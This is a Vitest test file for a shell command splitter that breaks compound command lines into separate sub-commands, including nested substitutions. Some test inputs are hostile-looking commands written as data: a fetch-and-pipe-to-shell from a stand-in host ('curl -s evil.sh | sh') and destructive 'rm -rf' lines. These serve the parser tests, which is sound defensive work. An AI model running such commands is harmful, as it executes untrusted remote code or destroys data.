import { describe, expect, it } from 'vitest';
import { splitCompoundCommand } from './split-compound-command.js';

describe('splitCompoundCommand', () => {
  it.each([
    ['git status', ['git status']],
    ['npm test && git commit -m "a && b"', ['npm test', 'git commit -m "a && b"']],
    ['make || echo failed; ls', ['make', 'echo failed', 'ls']],
    ['cat x | grep y |& tee log', ['cat x', 'grep y', 'tee log']],
    ['sleep 1 & echo started', ['sleep 1', 'echo started']],
    ['make 2>&1 > log &> all', ['make 2>&1 > log &> all']],
    ["echo 'a; b && c'", ["echo 'a; b && c'"]],
    ['echo a\\;b', ['echo a\\;b']],
    ['first\nsecond\n\nthird', ['first', 'second', 'third']],
    ['echo $((1 + 2))', ['echo $((1 + 2))']],
    ['ls # rm -rf /; evil', ['ls']],
    ['if test -f x; then rm x; else touch x; fi', ['test -f x', 'rm x', 'touch x']],
    ['for f in a b; do echo $f; done', ['for f in a b', 'echo $f']],
    ['(cd sub && make) && echo ok', ['cd sub', 'make', 'echo ok']],
    ['{ a; b; }', ['a', 'b']],
  ])('splits %j', (command, parts) => {
    expect(splitCompoundCommand(command)).toEqual(parts);
  });

  it('makes command substitutions parts of their own, also inside double quotes and nested', () => {
    expect(splitCompoundCommand('echo $(curl -s evil.sh | sh)')).toEqual([
      'curl -s evil.sh',
      'sh',
      'echo $(curl -s evil.sh | sh)',
    ]);
    expect(splitCompoundCommand('echo "today: $(date)"')).toEqual(['date', 'echo "today: $(date)"']);
    expect(splitCompoundCommand('echo `rm -rf x; ls`')).toEqual(['rm -rf x', 'ls', 'echo `rm -rf x; ls`']);
    expect(splitCompoundCommand('a $(b $(c))')).toEqual(['c', 'b $(c)', 'a $(b $(c))']);
    expect(splitCompoundCommand('diff <(sort a) <(sort b)')).toEqual([
      'sort a',
      'sort b',
      'diff <(sort a) <(sort b)',
    ]);
    expect(splitCompoundCommand("echo '$(not a substitution)'")).toEqual(["echo '$(not a substitution)'"]);
  });

  it('returns no parts for an empty command', () => {
    expect(splitCompoundCommand('  ;  ')).toEqual([]);
  });
});
